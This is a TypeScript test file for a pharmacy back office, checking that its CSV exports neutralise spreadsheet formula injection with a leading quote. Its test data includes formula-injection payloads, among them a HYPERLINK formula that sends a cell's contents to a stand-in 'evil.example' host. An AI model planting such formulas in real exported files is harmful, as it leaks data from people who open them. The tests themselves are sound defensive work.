import { describe, expect, it } from 'vitest';
import { neutralizeCsvCell, readCsvCell } from '../../src/contract/csv';
import { parseQuickOrderText, quickOrderCsv } from '../../src/contract/quickOrder';
import { type ExportColumn, toCsv, toSheetRows } from '../../src/resources/common/export/table';

/** Issue 26 §14: CSV cells a spreadsheet would run as formulas are neutralised as OWASP advises; the .xlsx is left as is. */

interface Pharmacy {
  name: string;
  email: string;
  balance: number;
}
const columns: ExportColumn<Pharmacy>[] = [
  { label: 'Pharmacie', value: (r) => r.name },
  { label: 'E-mail', value: (r) => r.email },
  { label: 'Solde', kind: 'money', value: (r) => r.balance },
];

describe('neutralizeCsvCell', () => {
  it.each(['=1+2', '+33 1 23', '-2+3', '@SUM(A1)', '\t=1', '\r=1', '=HYPERLINK("http://evil","x")'])(
    '%j gets a leading quote',
    (cell) => {
      expect(neutralizeCsvCell(cell)).toBe(`'${cell}`);
      expect(readCsvCell(neutralizeCsvCell(cell))).toBe(cell);
    },
  );

  it('leaves ordinary texts alone', () => {
    for (const cell of ['Pharmacie El Amel', 'a=b', "l'Espoir", '', ' =1']) expect(neutralizeCsvCell(cell)).toBe(cell);
  });
});

describe('the back office’s CSV export', () => {
  const rows: Pharmacy[] = [
    { name: '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")', email: '@evil.dz', balance: -12.5 },
    { name: '+Pharmacie', email: '-x@demo.dz', balance: 3 },
  ];
  const lines = toCsv(columns, rows, 'fr').slice(1).split('\r\n');

  it('writes formula-looking texts with a quote before them, quoted as CSV needs', () => {
    expect(lines[1]).toBe(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Cliquez"")";'@evil.dz;-12,50`);
    expect(lines[2]).toBe("'+Pharmacie;'-x@demo.dz;3,00");
  });

  it('leaves the .xlsx cells as they are (typed strings are never formulas)', () => {
    const [, first] = toSheetRows(columns, rows);
    expect(first![0]).toEqual({ value: rows[0]!.name, type: String });
    expect(first![1]).toEqual({ value: '@evil.dz', type: String });
  });
});

describe('the “order again” CSV', () => {
  it('neutralises references and reads them back unchanged in the quick order pad', () => {
    const csv = quickOrderCsv([
      { ref: '=CMD', quantity: 2 },
      { ref: 'PF-0001', quantity: 1 },
    ]);
    expect(csv).toBe("ref;quantity\r\n'=CMD;2\r\nPF-0001;1\r\n");
    expect(parseQuickOrderText(csv).lines).toEqual([
      { ref: '=CMD', quantity: 2 },
      { ref: 'PF-0001', quantity: 1 },
    ]);
  });
});
